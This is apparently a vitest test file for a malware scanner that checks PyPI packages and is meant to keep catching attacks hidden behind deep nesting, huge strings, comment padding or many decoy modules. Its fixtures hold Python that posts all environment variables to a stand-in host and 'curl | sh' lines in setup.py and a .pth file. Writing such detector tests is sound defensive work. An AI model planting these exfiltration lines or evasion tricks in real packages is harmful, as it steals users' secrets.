import type { AnalysisResult } from '@weir/model';
import { describe, expect, test } from 'vitest';
import { analyzeArtifact } from '../analyze.ts';
import { DEFAULT_ANALYSIS_BUDGET } from '../limits.ts';
import { createMemoryView } from '../memory-view.ts';

const METADATA = 'Metadata-Version: 2.1\nName: acme-tool\nVersion: 1.2.0\n\n';
const STEAL = `import os, urllib.request\nurllib.request.urlopen('https://c2.weir.test', data=str(dict(os.environ)).encode())\n`;
const MIB = 2 ** 20;

async function analyze(
  files: Readonly<Record<string, string | Uint8Array>>,
  budget = DEFAULT_ANALYSIS_BUDGET,
): Promise<AnalysisResult> {
  await using view = createMemoryView({ 'PKG-INFO': METADATA, ...files });
  return analyzeArtifact(
    view,
    { ecosystem: 'pypi', filename: 'acme_tool-1.2.0.tar.gz', context: null },
    {
      layout: 'directory',
      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
      rulesetVersion: 'test',
      now: () => performance.now(),
      budget,
    },
  );
}

function rulesOf(result: AnalysisResult): string[] {
  return result.findings.map(({ rule, location }) => `${rule} ${location?.file}:${location?.line}`);
}

describe('what a budget left unread of Python is looked at in pieces', () => {
  test('behind nesting that no parser takes', async () => {
    const result = await analyze({ 'setup.py': `x = ${'['.repeat(12_000)}\n${STEAL}` });

    expect(rulesOf(result)).toEqual([
      'env-to-network/environment setup.py:3',
      'load-time/request setup.py:3',
      'likeness/python setup.py:3',
      'analysis/nesting setup.py:1',
    ]);
    expect(result.judgement).toMatchObject({ verdict: 'malicious', complete: false });
  });

  test('in modules that the first unread one may load, and not in tests, which nobody installs', async () => {
    const rest = { 'acme/__init__.py': 'from . import a, z\n', 'acme/a.py': 'x = 1\n', 'acme/z.py': '' };
    const few = { ...DEFAULT_ANALYSIS_BUDGET, parsedFilesMax: 1 };

    const hidden = await analyze({ ...rest, 'acme/b.py': STEAL }, few);
    const tested = await analyze({ ...rest, 'tests/test_b.py': STEAL }, few);

    expect(rulesOf(hidden)).toContain('env-to-network/environment acme/b.py:2');
    expect(rulesOf(tested)).toContain('analysis/budget-release acme/z.py:1');
    expect(rulesOf(tested)).not.toContain('env-to-network/environment tests/test_b.py:2');
  });

  test.each([
    ['all are read', DEFAULT_ANALYSIS_BUDGET],
    ['most are not', { ...DEFAULT_ANALYSIS_BUDGET, parsedBytesMax: 40_000 }],
  ])('in the last of a thousand modules that the first imports, where %s', async (_what, budget) => {
    const names = Array.from({ length: 1_000 }, (_, at) => `m${at}`);
    const padding = names.map(
      (name) => [`acme/${name}.py`, `class ${name}:\n    field = '${name}'\n`] as const,
    );
    const result = await analyze(
      {
        'acme/__init__.py': `from . import ${names.join(', ')}, z\n`,
        ...Object.fromEntries(padding),
        'acme/z.py': STEAL,
      },
      budget,
    );

    expect(rulesOf(result)).toContain('env-to-network/environment acme/z.py:2');
    expect(result.judgement.verdict).toBe('malicious');
  });

  test('behind a text over the size of sources, at its line', async () => {
    const result = await analyze({ 'setup.py': `x = '${'QUJD'.repeat(2.5 * MIB)}'\n${STEAL}` });

    expect(rulesOf(result)).toContain('env-to-network/environment setup.py:3');
    expect(result.judgement).toMatchObject({ verdict: 'malicious', complete: false });
  });

  test('behind comments, which are left out', async () => {
    const result = await analyze({ 'setup.py': `${'# nothing to see here\n'.repeat(450_000)}${STEAL}` });

    expect(rulesOf(result)).toContain('env-to-network/environment setup.py:450002');
    expect(result.skipped).toContainEqual(expect.objectContaining({ reason: 'larger than 8388608 bytes' }));
  });

  test('in the main block of what runs at install, and not of what is imported', async () => {
    const deep = `x = ${'['.repeat(12_000)}\n`;
    const main = `if __name__ == '__main__':\n    import os\n    os.system('curl -s https://c2.weir.test/x | sh')\n`;
    const [run, loaded] = [
      await analyze({ 'setup.py': deep + main }),
      await analyze({ 'acme/__init__.py': deep + main }),
    ];

    expect(run.judgement.verdict).toBe('malicious');
    expect(loaded.findings.find(({ rule }) => rule.startsWith('dropper/'))?.severity).not.toBe('critical');
  });

  test('in a .pth file over any length', async () => {
    const path = Array.from({ length: 40_000 }, (_, i) => `# path ${i}`).join('\n');
    const result = await analyze({
      'acme.pth': `${path}\nimport os;os.system('curl -s https://c2.weir.test/x | sh')\n`,
    });

    expect(result.findings[0]).toMatchObject({
      stage: 'install',
      location: { file: 'acme.pth', line: 40_001 },
    });
  });

  test('with a build description that is cut told', async () => {
    const result = await analyze({
      'setup.cfg': `[metadata]\nname = ${'x'.repeat(300_000)}\n`,
      'setup.py': 'x = 1',
    });

    expect(result.judgement.verdict).toBe('inconclusive');
    expect(result.skipped).toContainEqual(expect.objectContaining({ file: 'setup.cfg' }));
  });
});
